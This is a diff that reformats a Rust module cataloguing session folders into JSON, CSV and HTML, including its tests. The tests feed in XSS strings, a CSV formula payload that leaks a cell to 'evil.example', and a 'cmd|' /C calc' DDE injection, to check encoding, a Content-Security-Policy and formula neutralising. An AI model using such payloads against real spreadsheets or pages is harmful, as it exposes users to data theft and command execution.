@@ -15,12 +15,21 @@ use crate::fsutil::write_atomic;
 use crate::progress::Progress;
 use crate::render::context;
 use crate::render::templates::csp::ScriptMark;
-use crate::session::naming::Named;
 use crate::session::SessionRecord;
+use crate::session::naming::Named;
 
 /// Themes per taxonomy listed for each session.
 const TOP_THEMES: usize = 3;
-const DOCUMENTS: [&str; 8] = ["review.html", "minutes.md", "minutes.html", "minutes.docx", "summary.md", "summary.html", "transcript.txt", "session.json"];
+const DOCUMENTS: [&str; 8] = [
+    "review.html",
+    "minutes.md",
+    "minutes.html",
+    "minutes.docx",
+    "summary.md",
+    "summary.html",
+    "transcript.txt",
+    "session.json",
+];
 
 #[derive(Debug, Serialize, PartialEq)]
 pub struct Catalog {
@@ -71,7 +80,11 @@ pub struct Trend {
 /// not followed: a loop would list one session many times, and a link out of `dir` would
 /// catalogue what is not there.
 fn sessions(dir: &Path, found: &mut Vec<PathBuf>) -> std::io::Result<()> {
-    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)?.filter_map(Result::ok).filter(|e| e.file_type().is_ok_and(|t| t.is_dir())).map(|e| e.path()).collect();
+    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)?
+        .filter_map(Result::ok)
+        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
+        .map(|e| e.path())
+        .collect();
     entries.sort();
     for p in entries {
         if p.join("session.json").is_file() {
@@ -87,7 +100,8 @@ fn sessions(dir: &Path, found: &mut Vec<PathBuf>) -> std::io::Result<()> {
 /// `warn`ing rather than failing the catalog of all the others.
 pub fn build(dir: &Path, warn: &mut dyn FnMut(String)) -> Result<Catalog, Failure> {
     let mut folders = Vec::new();
-    sessions(dir, &mut folders).map_err(|e| Failure::new(Exit::Input, format!("cannot read {}: {e}", dir.display())))?;
+    sessions(dir, &mut folders)
+        .map_err(|e| Failure::new(Exit::Input, format!("cannot read {}: {e}", dir.display())))?;
     let taxonomies = crate::themes::taxonomy::load(None).map_err(|e| Failure::new(Exit::Input, e.to_string()))?;
     let mut entries = Vec::new();
     for folder in folders {
@@ -113,24 +127,42 @@ pub fn build(dir: &Path, warn: &mut dyn FnMut(String)) -> Result<Catalog, Failur
             themes: ctx
                 .taxonomies
                 .iter()
-                .flat_map(|t| t.themes.iter().take(TOP_THEMES).map(move |th| ThemeShare { taxonomy: t.name.clone(), theme: th.short.clone(), share_percent: th.share_percent }))
+                .flat_map(|t| {
+                    t.themes.iter().take(TOP_THEMES).map(move |th| ThemeShare {
+                        taxonomy: t.name.clone(),
+                        theme: th.short.clone(),
+                        share_percent: th.share_percent,
+                    })
+                })
                 .collect(),
-            documents: DOCUMENTS.iter().filter(|d| folder.join(d).is_file()).map(|d| Link { name: d.to_string(), href: document_href(dir, &folder, d) }).collect(),
+            documents: DOCUMENTS
+                .iter()
+                .filter(|d| folder.join(d).is_file())
+                .map(|d| Link { name: d.to_string(), href: document_href(dir, &folder, d) })
+                .collect(),
             path,
         });
     }
     let mut trends: BTreeMap<(String, String), BTreeMap<String, usize>> = BTreeMap::new();
     for e in &entries {
-        let month = e.date.as_deref().filter(|d| d.len() >= 7).map_or_else(|| "undated".to_string(), |d| d[..7].to_string());
+        let month =
+            e.date.as_deref().filter(|d| d.len() >= 7).map_or_else(|| "undated".to_string(), |d| d[..7].to_string());
         for t in &e.themes {
             *trends.entry((t.taxonomy.clone(), t.theme.clone())).or_default().entry(month.clone()).or_default() += 1;
         }
     }
     let mut trends: Vec<Trend> = trends
         .into_iter()
-        .map(|((taxonomy, theme), months)| Trend { taxonomy, theme, sessions: months.values().sum(), by_month: months.into_iter().collect() })
+        .map(|((taxonomy, theme), months)| Trend {
+            taxonomy,
+            theme,
+            sessions: months.values().sum(),
+            by_month: months.into_iter().collect(),
+        })
         .collect();
-    trends.sort_by(|a, b| a.taxonomy.cmp(&b.taxonomy).then(b.sessions.cmp(&a.sessions)).then_with(|| a.theme.cmp(&b.theme)));
+    trends.sort_by(|a, b| {
+        a.taxonomy.cmp(&b.taxonomy).then(b.sessions.cmp(&a.sessions)).then_with(|| a.theme.cmp(&b.theme))
+    });
     Ok(Catalog { sessions: entries, trends })
 }
 
@@ -147,7 +179,16 @@ fn csv(c: &Catalog) -> String {
     for e in &c.sessions {
         let themes: Vec<String> = e.themes.iter().map(|t| format!("{} ({}%)", t.theme, t.share_percent)).collect();
         let minutes = e.documents.iter().find(|d| d.name == "minutes.md").map_or("", |d| d.href.as_str());
-        let row = [e.path.as_str(), &e.title, e.date.as_deref().unwrap_or(""), &e.duration_s.to_string(), &e.speakers.join("; "), &e.languages.join("; "), &themes.join("; "), minutes];
+        let row = [
+            e.path.as_str(),
+            &e.title,
+            e.date.as_deref().unwrap_or(""),
+            &e.duration_s.to_string(),
+            &e.speakers.join("; "),
+            &e.languages.join("; "),
+            &themes.join("; "),
+            minutes,
+        ];
         out += &row.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(",");
         out.push('\n');
     }
@@ -166,8 +207,15 @@ fn html(c: &Catalog) -> Result<String, Failure> {
     env.set_auto_escape_callback(|_| minijinja::AutoEscape::Html);
     env.set_undefined_behavior(minijinja::UndefinedBehavior::Strict);
     let scripts = ScriptMark::new();
-    env.add_template_owned("catalog.html", scripts.mark(include_str!("../../templates/catalog.html"))).map_err(|e| Failure::new(Exit::Failed, format!("catalog template: {e}")))?;
-    let months: Vec<String> = c.trends.iter().flat_map(|t| t.by_month.iter().map(|(m, _)| m.clone())).collect::<std::collections::BTreeSet<_>>().into_iter().collect();
+    env.add_template_owned("catalog.html", scripts.mark(include_str!("../../templates/catalog.html")))
+        .map_err(|e| Failure::new(Exit::Failed, format!("catalog template: {e}")))?;
+    let months: Vec<String> = c
+        .trends
+        .iter()
+        .flat_map(|t| t.by_month.iter().map(|(m, _)| m.clone()))
+        .collect::<std::collections::BTreeSet<_>>()
+        .into_iter()
+        .collect();
     env.get_template("catalog.html")
         .and_then(|t| t.render(minijinja::context! { catalog => c, months => months }))
         .map(|page| scripts.seal(&page))
@@ -178,7 +226,8 @@ fn html(c: &Catalog) -> Result<String, Failure> {
 /// cataloguing one folder take turns, and only the holder removes temporary files a killed
 /// one left.
 pub fn write_catalog(dir: &Path, progress: &Progress) -> Result<Catalog, Failure> {
-    let write_fail = |e: std::io::Error| Failure::new(Exit::Output, format!("cannot write the catalog in {}: {e}", dir.display()));
+    let write_fail =
+        |e: std::io::Error| Failure::new(Exit::Output, format!("cannot write the catalog in {}: {e}", dir.display()));
     let _lock = crate::fsutil::FolderLock::wait(dir, crate::fsutil::CATALOG_LOCK).map_err(write_fail)?;
     crate::fsutil::remove_stale_temps(dir, &FILES);
     let c = build(dir, &mut |w| progress.warn(&w))?;
@@ -196,13 +245,20 @@ const FILES: [&str; 3] = ["catalog.json", "catalog.csv", "index.html"];
 
 pub fn catalog(dir: &Path, progress: &Progress) -> Vec<Failure> {
     if !dir.is_dir() {
-        let f = Failure::new(Exit::Input, format!("{} is not a folder; give the --out folder of `rapporteur batch` or `run`", dir.display()));
+        let f = Failure::new(
+            Exit::Input,
+            format!("{} is not a folder; give the --out folder of `rapporteur batch` or `run`", dir.display()),
+        );
         progress.error(None, &f.message);
         return vec![f];
     }
     match write_catalog(dir, progress) {
         Ok(c) => {
-            progress.done(&dir.display().to_string(), &dir.join("index.html").display().to_string(), &format!("{} sessions", c.sessions.len()));
+            progress.done(
+                &dir.display().to_string(),
+                &dir.join("index.html").display().to_string(),
+                &format!("{} sessions", c.sessions.len()),
+            );
             Vec::new()
         }
         Err(f) => {
@@ -227,14 +283,19 @@ mod tests {
         std::fs::create_dir_all(out.join("other-tool")).unwrap();
         std::fs::write(out.join("other-tool/session.json"), r#"{"user":"x"}"#).unwrap();
         std::fs::create_dir_all(out.join("newer")).unwrap();
-        let newer = crate::session::record::tests::sample().to_json().replace("\"schema_version\": 2", "\"schema_version\": 999");
+        let newer = crate::session::record::tests::sample()
+            .to_json()
+            .replace("\"schema_version\": 2", "\"schema_version\": 999");
         std::fs::write(out.join("newer/session.json"), newer).unwrap();
         std::os::unix::fs::symlink(".", out.join("loop")).unwrap();
         let mut warnings = Vec::new();
         let c = build(out, &mut |w| warnings.push(w)).unwrap();
         assert_eq!(c.sessions.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), ["ours"]);
         assert_eq!(warnings.len(), 2, "{warnings:?}");
-        assert!(warnings[0].contains("newer") && warnings[0].contains("999") && warnings[1].contains("other-tool"), "{warnings:?}");
+        assert!(
+            warnings[0].contains("newer") && warnings[0].contains("999") && warnings[1].contains("other-tool"),
+            "{warnings:?}"
+        );
     }
 
     /// Links to a session's documents work whatever its folder is called, and the page allows
@@ -242,14 +303,37 @@ mod tests {
     #[test]
     fn index_links_are_encoded_and_the_page_has_a_policy() {
         let out = Path::new("/o");
-        assert_eq!(document_href(out, &out.join("javascript:alert(1)"), "review.html").as_str(), "./javascript%3Aalert%281%29/review.html");
-        assert_eq!(document_href(out, &out.join("2026/a b (1)#2?50%"), "minutes.md").as_str(), "./2026/a%20b%20%281%29%232%3F50%25/minutes.md");
-        let link = Link { name: "review.html".into(), href: document_href(out, &out.join("x\"><script>alert(1)</script>"), "review.html") };
-        let entry = Entry { path: "x".into(), title: "<script>alert(2)</script>".into(), date: None, duration_s: 1.0, duration: "1 s".into(), speakers: vec![], languages: vec![], themes: vec![], documents: vec![link] };
+        assert_eq!(
+            document_href(out, &out.join("javascript:alert(1)"), "review.html").as_str(),
+            "./javascript%3Aalert%281%29/review.html"
+        );
+        assert_eq!(
+            document_href(out, &out.join("2026/a b (1)#2?50%"), "minutes.md").as_str(),
+            "./2026/a%20b%20%281%29%232%3F50%25/minutes.md"
+        );
+        let link = Link {
+            name: "review.html".into(),
+            href: document_href(out, &out.join("x\"><script>alert(1)</script>"), "review.html"),
+        };
+        let entry = Entry {
+            path: "x".into(),
+            title: "<script>alert(2)</script>".into(),
+            date: None,
+            duration_s: 1.0,
+            duration: "1 s".into(),
+            speakers: vec![],
+            languages: vec![],
+            themes: vec![],
+            documents: vec![link],
+        };
         let page = html(&Catalog { sessions: vec![entry], trends: vec![] }).unwrap();
         assert!(!page.contains("<script"), "{page}");
         assert!(page.contains(r#"<a href="./x%22%3E%3Cscript%3Ealert%281%29%3C/script%3E/review.html">"#), "{page}");
-        assert!(page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';") && page.contains("script-src 'none'\">"), "{page}");
+        assert!(
+            page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';")
+                && page.contains("script-src 'none'\">"),
+            "{page}"
+        );
     }
 
     #[test]
@@ -261,9 +345,15 @@ mod tests {
 
     #[test]
     fn csv_cells_are_never_formulas() {
-        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
+        );
         for lead in ["+", "-", "@", "\t", "\r"] {
-            assert!(csv_field(&format!("{lead}cmd|' /C calc'!A0")).trim_start_matches('"').starts_with('\''), "{lead:?}");
+            assert!(
+                csv_field(&format!("{lead}cmd|' /C calc'!A0")).trim_start_matches('"').starts_with('\''),
+                "{lead:?}"
+            );
         }
         assert_eq!(csv_field("a=b"), "a=b", "only the first character matters");
         assert_eq!(csv_field("42.5"), "42.5");
